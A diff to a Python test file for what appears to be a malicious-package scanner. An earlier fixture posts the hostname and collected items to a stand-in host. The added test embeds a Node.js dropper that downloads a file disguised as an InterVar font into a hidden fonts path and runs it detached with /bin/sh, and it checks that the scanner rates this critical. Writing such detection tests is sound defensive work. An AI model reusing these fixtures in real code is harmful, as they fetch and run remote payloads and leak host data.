@@ -1340,3 +1340,19 @@ def test_the_recent_documents_lists_are_the_users_documents():
     picker = harvest.replace("fetch('https://index.docs.example/v1/docs', { method: 'POST', body: JSON.stringify({ h: os.hostname(), items }) });\n",
                              "for (const p of files) console.log(p);\n")
     assert decide(run({"index.js": picker})).level is Level.CLEAN
+
+
+def test_a_download_left_running_under_a_fonts_name():
+    # (blind set 52's log viewer CLI: "checkAssets" downloads a stage to the fonts folder as InterVar-Regular.woff2 and
+    # starts it with rundll32 or sh, detached)
+    cli = ("const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\n"
+           "const { spawn } = require('child_process');\n"
+           "function start(p) { fs.chmodSync(p, 0o755); spawn('/bin/sh', [p], { detached: true, stdio: 'ignore' }).unref(); }\n"
+           "function get(u, p) { https.get(u, (r) => r.pipe(fs.createWriteStream(p)).on('finish', () => start(p))); }\n"
+           "const dir = path.join(os.homedir(), '.local', 'share', 'fonts');\n"
+           "get('https://assets.logs.example/fonts/InterVar-Regular.woff2?fmt=x', path.join(dir, '.InterVar-Regular.woff2'));\n")
+    drop = next(f for f in run({"bin/cli.js": cli}, bins={"logs": "bin/cli.js"}) if f.rule == "code/download-execute")
+    assert drop.severity is Severity.CRITICAL and "woff2" in drop.message
+    plain = next(f for f in run({"bin/cli.js": cli.replace("InterVar-Regular.woff2", "logs-helper")}, bins={"logs": "bin/cli.js"})
+                 if f.rule == "code/download-execute")
+    assert plain.severity < Severity.CRITICAL
